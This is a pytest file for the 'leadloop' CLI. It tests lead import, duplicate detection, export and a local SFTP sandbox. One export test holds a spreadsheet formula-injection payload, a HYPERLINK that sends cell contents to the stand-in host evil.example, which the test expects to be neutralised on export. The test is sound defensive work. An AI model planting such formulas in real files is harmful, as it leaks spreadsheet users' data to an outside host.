"""``leadloop import``, ``leadloop export`` and ``leadloop sandbox sftp`` from the command line."""

from __future__ import annotations

import csv
import io
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import openpyxl
from click.testing import CliRunner, Result
from leadloop.cli import cli
from leadloop.store import Store
from leadloop.store.tables import runs
from leadloop_csv_sftp import SftpInbox
from sqlalchemy import select

Apply = Callable[..., None]

FILE = (
    "Email,First Name,Company,Country,Phone,Notes\n"
    "anna@example.com,Anna,Acme,DE,+49 30 1234567,\n"
    "bob@example.com,Bob,Beta,USA,,\"two\nlines\"\n"
    "carl@example.com,Carl,,Narnia,,\n"
    ",Dora,Delta,FR,,\n"
)


def leadloop(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def summary(output: str) -> dict[str, str]:
    lines = (line.split(":", 1) for line in output.splitlines() if line.startswith("  ") and ":" in line)
    return {key.strip(): value.strip() for key, value in lines}


def test_import_prints_a_summary_and_writes_the_report_beside_the_file(
    tmp_path: Path, apply: Apply, leadloop_store: Store
) -> None:
    apply()
    path = tmp_path / "show.csv"
    path.write_text(FILE, encoding="utf-8")
    result = leadloop("import", str(path), "--tenant", "acme")
    assert result.exit_code == 0, result.output
    assert result.output.startswith("import run 1 through connector 'drop': ok\n")
    assert summary(result.output) == {
        "read": "4", "imported": "2", "updated": "0", "skipped as duplicate": "0", "rejected": "2",
        "error report": str(tmp_path / "show.errors.xlsx"),
    }
    assert f"error report: {tmp_path / 'show.errors.csv'}" in result.output
    rows = list(csv.reader(io.StringIO((tmp_path / "show.errors.csv").read_text(encoding="utf-8-sig"))))
    assert [row[:2] for row in rows] == [["row", "field"], ["4", "Company"], ["4", "Country"], ["5", "Email"]]
    assert path.exists()  # a local file stays where it is
    with leadloop_store.read() as conn:
        assert conn.execute(select(runs.c.job, runs.c.outcome, runs.c.records_written)).all() == [("import", "ok", 2)]


def test_importing_the_same_file_again_skips_it(tmp_path: Path, apply: Apply, leadloop_store: Store) -> None:
    apply()
    path = tmp_path / "show.csv"
    path.write_text(FILE, encoding="utf-8")
    leadloop("import", str(path), "--tenant", "acme")
    copy = tmp_path / "copy.csv"
    copy.write_bytes(path.read_bytes())
    result = leadloop("import", str(copy), "--tenant", "acme")
    assert result.exit_code == 0, result.output
    found = summary(result.output)
    assert (found["imported"], found["skipped as duplicate"]) == ("0", "4")
    assert "the same content was imported from 'show.csv' on " in result.output
    assert leadloop_store.tenant("acme").count_leads() == 2


def test_import_with_auto_update_counts_updates(tmp_path: Path, apply: Apply) -> None:
    apply(auto_update=True, uniqueness="email")
    (tmp_path / "a.csv").write_text("Email,Company\nanna@example.com,Acme\n", encoding="utf-8")
    (tmp_path / "b.csv").write_text("Email,Company\nanna@example.com,Acme AG\nbob@example.com,Beta\n",
                                    encoding="utf-8")
    leadloop("import", str(tmp_path / "a.csv"), "--tenant", "acme")
    found = summary(leadloop("import", str(tmp_path / "b.csv"), "--tenant", "acme").output)
    assert (found["read"], found["imported"], found["updated"]) == ("2", "1", "1")


def test_a_file_that_cannot_be_imported_fails_the_command(tmp_path: Path, apply: Apply) -> None:
    apply()
    path = tmp_path / "nocompany.csv"
    path.write_text("Email,Name\na@example.com,A\n", encoding="utf-8")
    result = leadloop("import", str(path), "--tenant", "acme")
    assert result.exit_code == 1
    assert "not imported: no column for required field 'company'" in result.output


def test_import_names_the_connector_it_needs(tmp_path: Path, leadloop_store: Store) -> None:
    leadloop_store.tenant("empty").upsert_tenant("Empty")
    path = tmp_path / "show.csv"
    path.write_text(FILE, encoding="utf-8")
    result = CliRunner().invoke(cli, ["import", str(path), "--tenant", "empty"])
    assert result.exit_code == 1
    assert "error: tenant 'empty' has 0 csv_sftp connectors (none): add one to the tenant file" in result.output


def test_export_neutralises_formulas_in_csv_and_xlsx(tmp_path: Path, apply: Apply, leadloop_store: Store) -> None:
    apply()
    path = tmp_path / "evil.csv"
    path.write_text(
        "Email,Company,Notes,Phone\n"
        "anna@example.com,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",@SUM(1+1),+49 30 123\n"
        "bob@example.com,-2+3,ordinary,\n",
        encoding="utf-8",
    )
    assert leadloop("import", str(path), "--tenant", "acme").exit_code == 0
    out = tmp_path / "leads.csv"
    result = leadloop("export", "--tenant", "acme", "-o", str(out))
    assert result.output == f"2 leads of tenant 'acme' exported to {out}\n"
    rows = {r["Email"]: r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
    anna, bob = rows["anna@example.com"], rows["bob@example.com"]
    assert anna["Company"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    assert (anna["Notes"], anna["Phone"], bob["Company"], bob["Notes"]) == ("'@SUM(1+1)", "'+49 30 123", "'-2+3",
                                                                            "ordinary")
    xlsx = tmp_path / "leads.xlsx"
    leadloop("export", "--tenant", "acme", "--format", "xlsx", "-o", str(xlsx))
    sheet = openpyxl.load_workbook(xlsx).active
    header = [c.value for c in sheet[1]]
    cells = {row[header.index("Email")].value: row for row in sheet.iter_rows(min_row=2)}
    company = cells["anna@example.com"][header.index("Company")]
    assert company.data_type == "s" and company.value.startswith("'=HYPERLINK")
    assert cells["bob@example.com"][header.index("Company")].value == "'-2+3"


def test_an_export_imports_again(tmp_path: Path, apply: Apply, leadloop_store: Store) -> None:
    apply(allow_pii_free=True)
    path = tmp_path / "show.csv"
    path.write_text(FILE, encoding="utf-8")
    leadloop("import", str(path), "--tenant", "acme")
    out = tmp_path / "exported.csv"
    leadloop("export", "--tenant", "acme", "-o", str(out))
    found = summary(leadloop("import", str(out), "--tenant", "acme").output)
    assert (found["read"], found["imported"], found["rejected"]) == ("3", "3", "0")


def test_sandbox_sftp_serves_a_directory(tmp_path: Path) -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    server = subprocess.Popen(
        [sys.executable, "-c", "from leadloop.cli import main; main()", "sandbox", "sftp", "--port", str(port),
         "--root", str(tmp_path / "root")],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )
    try:
        assert server.stdout is not None
        line = server.stdout.readline().strip()  # printed once the server listens
        assert line.startswith(f"[127.0.0.1]:{port} ssh-ed25519 ")
        (tmp_path / "root" / "inbox").mkdir()
        (tmp_path / "root" / "inbox" / "a.csv").write_text("Email\n")
        settings = {"host": "127.0.0.1", "port": port, "username": "acme", "known_hosts": line}
        with SftpInbox(settings, {"password": "secret"}) as inbox:
            assert [f.name for f in inbox.complete_files({"sizes": {"a.csv": [6, None]}})] == []
            state: dict[str, object] = {}
            inbox.complete_files(state)
            assert [f.name for f in inbox.complete_files(state)] == ["a.csv"]
    finally:
        server.terminate()
        server.wait(timeout=10)
